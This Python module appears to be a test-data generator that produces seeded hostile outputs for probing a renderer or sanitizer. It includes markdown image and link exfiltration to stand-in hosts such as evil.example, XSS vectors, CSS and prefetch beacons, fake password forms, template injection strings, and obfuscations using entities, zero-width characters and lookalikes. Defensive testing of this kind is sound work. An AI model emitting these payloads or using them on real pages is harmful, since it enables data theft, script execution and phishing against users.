"""Hostile outputs from a grammar: what would fetch, send, run or mislead if any page took it for more than words.

The same seed makes the same outputs. `%EVIL%` stands for the host and port of the listener that waits for a fetch.
"""

import random
import re
from collections.abc import Callable
from dataclasses import dataclass
from html import escape

SEED = 20_261_121
EVIL = "%EVIL%"
NAMES = ("evil.example", "pixel.evil.example", "xn--80ak6aa92e.evil.example")

# {u} is an address, {j} a script, {n} the output's number.
FAMILIES: dict[str, tuple[str, ...]] = {
    "markdown_image": (
        "![Your receipt]({u})",
        "![a[b]c]({u} \"t\")",
        "[![x]({u})]({u})",
        "![x](<{u}>)",
        "!\\[x\\]({u}) ![x](  {u}  )",
    ),
    "markdown_reference": (
        "![x][r{n}]\n\n[r{n}]: {u}",
        "[pay here][r{n}]\n\n[r{n}]: {u} 'go'",
        "![r{n}]\n[r{n}]: <{u}>",
        "[r{n}][]\n\n [r{n}]:\n  {u}",
    ),
    "markdown_link": (
        "[Click to confirm]({u})",
        "[https://halcyon.example]({u})",
        "[x](javascript:{j})",
        "[x](/.//{h}/{n})",
        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg)",
        "[x](\\\\{h}\\{n})",
    ),
    "autolink": ("<{u}>", "{u}", "www.evil.example/{n}", "<mailto:a@evil.example?body={n}>", "see {u}, then {u}#x"),
    "image": (
        '<img src="{u}">',
        "<img src={u} onerror={j}>",
        "<IMG SRC=`{u}`>",
        "<image src={u}>",
        '<img loading=eager src = "{u}" width=1 height=1 style=opacity:0>',
        '<input type=image src="{u}">',
        "<img src=x onerror={j}>",
    ),
    "srcset": (
        '<img srcset="{u} 1x, {u}?2 2x">',
        '<picture><source srcset="{u}"><img src=x></picture>',
        '<link rel=preload as=image imagesrcset="{u} 1x">',
    ),
    "svg": (
        '<svg><image href="{u}"/></svg>',
        '<svg><use xlink:href="{u}#a"/></svg>',
        "<svg onload={j}>",
        '<svg><script href="{u}"></script><script>{j}</script></svg>',
        '<svg><foreignObject><iframe src="{u}"></iframe></foreignObject></svg>',
        '<svg><animate onbegin={j} attributeName=x dur=1s></svg>',
        '<svg><a xlink:href="javascript:{j}"><text y=20>x</text></a></svg>',
        '<svg><style>@import "{u}";</style></svg>',
        '<svg><filter><feImage href="{u}"/></filter></svg>',
    ),
    "css_url": (
        "<style>*{{background:url({u})}}</style>",
        '<p style="background-image:url({u})">x</p>',
        "<div style=\"list-style:url('{u}')\"><li style='cursor:url({u}),auto'>x</div>",
        "<style>@font-face{{font-family:x;src:url({u})}}*{{font-family:x}}</style>",
        "<style>input[value^=a]{{background:image-set('{u}' 1x)}}</style>",
    ),
    "css_import": (
        "<style>@import url({u});</style>",
        '<style>@import "{u}";</style>',
        '<link rel=stylesheet href="{u}">',
        "<style>@\\69mport '{u}'</style>",
    ),
    "media": (
        '<video src="{u}" autoplay poster="{u}?p"></video>',
        '<audio src="{u}" autoplay></audio>',
        '<video><source src="{u}" onerror={j}><track default src="{u}?t"></video>',
        "<audio src onerror={j}>",
    ),
    "frame": (
        '<iframe src="{u}"></iframe>',
        "<iframe srcdoc=\"<img src='{u}'><script>{j}</script>\"></iframe>",
        '<iframe src="javascript:{j}">',
        '<frameset><frame src="{u}"></frameset>',
        '<portal src="{u}"></portal><fencedframe></fencedframe>',
    ),
    "object": (
        '<object data="{u}"></object>',
        '<embed src="{u}">',
        '<object type="text/html" data="data:text/html,<script>{j}</script>"></object>',
        '<applet code="{u}"></applet><bgsound src="{u}">',
    ),
    "prefetch": (
        '<link rel=prefetch href="{u}">',
        '<link rel=preconnect href="{u}">',
        '<link rel=dns-prefetch href="//pixel.evil.example">',
        '<link rel=prerender href="{u}"><link rel=modulepreload href="{u}">',
        '<script type=speculationrules>{{"prefetch":[{{"urls":["{u}"]}}]}}</script>',
        '<link rel=icon href="{u}"><link rel=manifest href="{u}">',
    ),
    "refresh": (
        '<meta http-equiv=refresh content="0;url={u}">',
        '<meta http-equiv="refresh" content="0; URL=javascript:{j}">',
        "<meta http-equiv=Content-Security-Policy content=\"default-src *\"><meta http-equiv=set-cookie content=a=b>",
    ),
    "form": (
        '<form action="{u}"><input name=password type=password><button>Sign in</button></form>',
        '<button form=x formaction="{u}">Go on</button>',
        '<form id=x action="javascript:{j}"><input type=submit autofocus></form>',
        '<form name=body><input name=x></form><img name=querySelector>',
        '<form><input name=childNodes><input name=tagName><input name=attributes></form>',
        '<form action="{u}" method=post target=_blank><textarea name=t autofocus>',
    ),
    "base": ('<base href="{u}">', '<base target=_blank href="//evil.example/">'),
    "data": (
        '<a href="data:text/html,<script>{j}</script>">x</a>',
        '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22><image href=%22{u}%22/></svg>">',
        '<iframe src="data:text/html;base64,PGltZyBzcmM9Ly9ldmlsLmV4YW1wbGU+"></iframe>',
        "<script src='data:text/javascript,{j}'></script>",
    ),
    "blob": (
        '<iframe src="blob:{u}"></iframe>',
        "<script>location=URL.createObjectURL(new Blob(['<script>{j}<\\/script>'],{{type:'text/html'}}))</script>",
        '<a href="blob:http://127.0.0.1/{n}" target=_blank>x</a>',
    ),
    "script_address": (
        '<a href="javascript:{j}">Open</a>',
        '<a href=" java\tscript:{j}">Open</a>',
        '<a href="jAvAsCrIpT&colon;{j}" autofocus onfocus={j}>Open</a>',
        "<a href='vbscript:msgbox({n})'>Open</a>",
        '<a ping="{u}" href="#">Open</a>',
        '<a target=_blank rel=opener href="{u}">Open</a>',
    ),
    "script": (
        "<script>{j}</script>",
        '<script src="{u}"></script>',
        "<script type=module>import '{u}'</script>",
        "<scr<script>ipt>{j}</scr</script>ipt>",
        "<noscript><p title=\"</noscript><img src={u} onerror={j}>\">",
    ),
    "handler": (
        "<body onload={j}>",
        "<details open ontoggle={j}>x</details>",
        "<div onpointerenter={j} onmouseover={j} style='position:fixed;inset:0'>x</div>",
        "<marquee onstart={j}>x</marquee>",
        "<p onanimationstart={j} style='animation:x 1s'>x</p>",
        "<xss oncontentvisibilityautostatechange={j} style=display:block;content-visibility:auto>",
        "<div popover=auto onbeforetoggle={j} id=p{n}>x</div><button popovertarget=p{n}>x</button>",
    ),
    "autofocus": (
        "<input autofocus onfocus={j}>",
        "<select autofocus onfocus={j}></select>",
        "<x contenteditable tabindex=1 autofocus onfocus={j}>x</x>",
        "<textarea autofocus onfocus={j}>",
    ),
    "template": (
        '<template shadowrootmode=open><img src="{u}"><slot></slot></template>',
        '<div><template shadowrootmode="closed"><style>@import "{u}"</style></template></div>',
        "<template><script>{j}</script></template>",
        "{{{{constructor.constructor('{j}')()}}}} ${{{j}}} <%= {j} %>",
    ),
    "mathml": (
        '<math><mtext><table><mglyph><style><!--</style><img src="{u}" onerror={j}>',
        '<math href="javascript:{j}"><mi>x</mi></math>',
        '<math><annotation-xml encoding="text/html"><img src="{u}"></annotation-xml></math>',
        '<maction actiontype="statusline#{u}" xlink:href="javascript:{j}">x</maction>',
    ),
}  # fmt: skip
BREAKOUTS = (
    "",
    "",
    '">',
    "'>",
    "</p></span>",
    "--></style></script>",
    "</textarea></title>",
    "]]>",
    "\u2028",
    "`",
    "\\",
    "</b>\n\n",
)
WORDS = ("Your refund is on its way.", "Please see below.", "Amount: 20.00 EUR", "Grüße aus Köln.", "Thank you for waiting!", "—")
LOOKALIKE = str.maketrans({"a": "а", "e": "е", "o": "о", "<": "＜", "(": "（"})
HIDDEN = ("\u200b", "\u2060", "\u00ad", "\ufeff", "\u202e")
MARK = re.compile(r"[<>\"'()\[\]!:/]")


@dataclass(frozen=True, kw_only=True)
class Output:
    """One hostile output. `parts` are what it is cut into where sentences follow one another."""

    number: int
    family: str
    change: str
    text: str

    def at(self, evil: str) -> str:
        """The text, with the listener's host and port in it."""
        return self.text.replace(EVIL, evil)

    def parts(self, evil: str) -> tuple[str, str]:
        """The text in two, cut in the middle of what is hostile about it."""
        text = self.at(evil)
        middle = len(text) // 2
        while text[middle - 1].isspace() or text[middle].isspace():
            middle += 1
        return text[:middle], text[middle:]


def outputs(count: int, seed: int = SEED) -> tuple[Output, ...]:
    """So many different outputs; every family comes in its turn, as it is and in every disguise."""
    choose = random.Random(seed)
    families, changes = list(FAMILIES), list(CHANGES)
    made = list[Output]()
    for number in range(count):
        family, change = families[number % len(families)], changes[(number // len(families)) % len(changes)]
        made.append(Output(number=number, family=family, change=change, text=_written(family, change, number, choose)))
    return tuple(made)


def _written(family: str, change: str, number: int, choose: random.Random) -> str:
    host = choose.choice((EVIL, EVIL, *NAMES))
    address = (
        choose.choice(("http://", "http://", "https://", "//", "HTTP:\\\\", "http://halcyon.example@")) + f"{host}/n{number}"
    )
    script = choose.choice(("ran({n})", "alert({n})", "top.ran({n})", "fetch('{u}')", "new(Image)().src='{u}'", "location='{u}'"))
    filled = script.format(n=number, u=address)
    core = choose.choice(FAMILIES[family]).format(u=address, h=host, j=filled, n=number)
    before, after = choose.choice(WORDS), choose.choice(WORDS)
    return f"{before} {number} {choose.choice(BREAKOUTS)}{CHANGES[change](core, choose)} {after}"


def _entities(text: str, choose: random.Random) -> str:
    forms: tuple[Callable[[str], str], ...] = (
        escape,
        lambda text: MARK.sub(lambda mark: f"&#{ord(mark[0])};", text),
        lambda text: MARK.sub(lambda mark: f"&#x{ord(mark[0]):x};", text),
        lambda text: escape(escape(text)),
    )
    return choose.choice(forms)(text)


def _hidden(text: str, choose: random.Random) -> str:
    return MARK.sub(lambda mark: mark[0] + (choose.choice(HIDDEN) if choose.random() < 0.4 else ""), text)


def _nested(text: str, choose: random.Random) -> str:
    around = (
        "`{}`",
        "```html\n{}\n```",
        "> {}",
        "<b>{}</b>",
        "| a |\n|---|\n| {} |",
        "<textarea>{}",
        "<!--{}-->",
        '{{"text":"{}"}}',
    )
    return choose.choice(around).format(text)


def _cased(text: str, choose: random.Random) -> str:
    return re.sub(r"</?[a-z]+", lambda tag: "".join(choose.choice((c.upper(), c)) for c in tag[0]), text)


def _escaped(text: str, choose: random.Random) -> str:
    forms: tuple[Callable[[str], str], ...] = (
        lambda text: MARK.sub(lambda mark: f"%{ord(mark[0]):02x}", text),
        lambda text: MARK.sub(lambda mark: f"\\u{ord(mark[0]):04x}", text),
        lambda text: MARK.sub(lambda mark: f"\\{mark[0]}", text),
    )
    return choose.choice(forms)(text)


CHANGES: dict[str, Callable[[str, random.Random], str]] = {
    "as it is": lambda text, _choose: text,
    "entities": _entities,
    "hidden": _hidden,
    "as it is, twice": lambda text, _choose: f"{text}{text}",
    "lookalike": lambda text, _choose: text + text.translate(LOOKALIKE),
    "nested": _nested,
    "cased": _cased,
    "escaped": _escaped,
}
